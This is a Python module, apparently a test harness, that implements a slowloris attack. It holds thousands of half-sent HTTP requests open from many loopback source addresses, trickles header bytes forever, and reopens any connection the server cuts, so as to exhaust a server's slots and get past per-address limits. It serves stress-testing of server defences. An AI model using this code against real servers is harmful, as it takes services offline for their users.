"""Slow clients: connections that start a request and never finish its header.

The attack of "slowloris": each connection sends the first line of a request,
then one header byte every *interval* seconds, forever. A server that gives
each connection a slot until its request is complete runs out of slots; one
that bounds the time a header may take cuts them, and a persistent attacker
opens them again at once, which :class:`SlowClients` does too (a connection
closed within a second, by a server too full to take it, waits for the next
byte's turn instead, so that the attacker does not spin).

The connections are spread over many loopback source addresses (127.0.0.2,
127.0.0.3, …: Linux routes all of 127.0.0.0/8 to the loopback interface), so
a per-address limit alone cannot stop them. Everything runs in one thread
with non-blocking sockets and one selector (epoll), so thousands cost no
thread each.
"""

from __future__ import annotations

import contextlib
import errno
import ipaddress
import selectors
import socket
import threading
import time
from dataclasses import dataclass, field

FIRST_LINE = b"GET /api/board HTTP/1.1\r\nHost: panel\r\n"
TRICKLE = b"X-Slow: 1\r\n"
"""Header bytes sent one at a time, over and over: the blank line that would end the header never comes."""
MIN_LIFE_S = 1.0
"""A connection the server closed sooner than this is opened again only at the next byte."""


def loopback_address(index: int) -> str:
    """127.0.0.2 for 0, 127.0.0.3 for 1, … (skipping 127.0.0.1, the kiosk's and the honest client's)."""
    return str(ipaddress.IPv4Address("127.0.0.2") + index)


def can_bind(address: str) -> bool:
    """Whether this machine lets a socket use *address* as its source (127.0.0.0/8 on Linux)."""
    with socket.socket() as probe:
        try:
            probe.bind((address, 0))
        except OSError:
            return False
    return True


@dataclass
class _Connection:
    source: str
    sock: socket.socket | None = None
    connected: bool = False
    sent: int = 0
    opened_at: float = field(default_factory=time.monotonic)


class SlowClients:
    """*count* slow connections to ``host:port`` from *addresses* source addresses."""

    def __init__(
        self, host: str, port: int, *, count: int, addresses: int = 100, interval: float = 5.0
    ) -> None:
        self.target = (host, port)
        self.interval = interval
        self._connections = [_Connection(loopback_address(i % addresses)) for i in range(count)]
        self._selector = selectors.DefaultSelector()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, name="slow-clients", daemon=True)
        self.closed_by_server = 0
        """Connections the server closed (a header timeout); each was opened again."""
        self.refused = 0

    # -- life ------------------------------------------------------------------

    def start(self) -> SlowClients:
        for connection in self._connections:
            self._open(connection)
        self._thread.start()
        return self

    def close(self) -> None:
        self._stop.set()
        if self._thread.is_alive():
            self._thread.join(10)
        for connection in self._connections:
            self._drop(connection)
        self._selector.close()

    def __enter__(self) -> SlowClients:
        return self.start()

    def __exit__(self, *_exc: object) -> None:
        self.close()

    @property
    def count(self) -> int:
        return len(self._connections)

    @property
    def connected(self) -> int:
        """Connections whose TCP handshake completed (accepted, or waiting in the server's backlog)."""
        return sum(1 for connection in self._connections if connection.connected)

    def wait_connected(self, timeout: float = 30.0) -> int:
        """Wait until every connection is up (or *timeout*); how many are."""
        deadline = time.monotonic() + timeout
        while self.connected < self.count and time.monotonic() < deadline:
            time.sleep(0.05)
        return self.connected

    # -- the sockets -------------------------------------------------------------

    def _open(self, connection: _Connection) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.bind((connection.source, 0))
        code = sock.connect_ex(self.target)
        connection.sock, connection.connected, connection.sent = sock, False, 0
        connection.opened_at = time.monotonic()
        if code not in (0, errno.EINPROGRESS):
            self.refused += 1
            sock.close()
            connection.sock = None
            return
        self._selector.register(sock, selectors.EVENT_WRITE, connection)

    def _drop(self, connection: _Connection) -> None:
        if connection.sock is not None:
            with contextlib.suppress(KeyError, ValueError):  # never registered, or already closed
                self._selector.unregister(connection.sock)
            connection.sock.close()
        connection.sock, connection.connected = None, False

    def _reopen(self, connection: _Connection) -> None:
        self._drop(connection)
        self._open(connection)

    def _run(self) -> None:
        next_byte = time.monotonic() + self.interval
        while not self._stop.is_set():
            timeout = max(0.0, min(0.2, next_byte - time.monotonic()))
            for key, mask in self._selector.select(timeout):
                self._on_event(key.data, mask)
            if time.monotonic() >= next_byte:
                self._trickle()
                next_byte = time.monotonic() + self.interval

    def _on_event(self, connection: _Connection, mask: int) -> None:
        sock = connection.sock
        if sock is None:
            return
        if mask & selectors.EVENT_WRITE:  # the handshake ended
            if sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
                self.refused += 1
                self._drop(connection)  # again at the next byte
                return
            connection.connected = True
            self._send(connection, FIRST_LINE)
            if connection.sock is not None:
                self._selector.modify(sock, selectors.EVENT_READ, connection)
            return
        # Readable: the server answered (408) or closed; either way it let go.
        self.closed_by_server += 1
        self._let_go(connection)

    def _send(self, connection: _Connection, data: bytes) -> None:
        assert connection.sock is not None
        try:
            connection.sock.send(data)
            connection.sent += len(data)
        except BlockingIOError:
            pass
        except OSError:
            self.closed_by_server += 1
            self._let_go(connection)

    def _let_go(self, connection: _Connection) -> None:
        """Open a connection the server closed again: at once if it held on a while, else at the
        next byte (a server too full to take it closes it on accept: no point in a busy loop)."""
        if time.monotonic() - connection.opened_at >= MIN_LIFE_S:
            self._reopen(connection)
        else:
            self._drop(connection)

    def _trickle(self) -> None:
        for connection in self._connections:
            if connection.sock is None:
                self._open(connection)
            elif connection.connected:
                index = (connection.sent - len(FIRST_LINE)) % len(TRICKLE)
                self._send(connection, TRICKLE[index : index + 1])
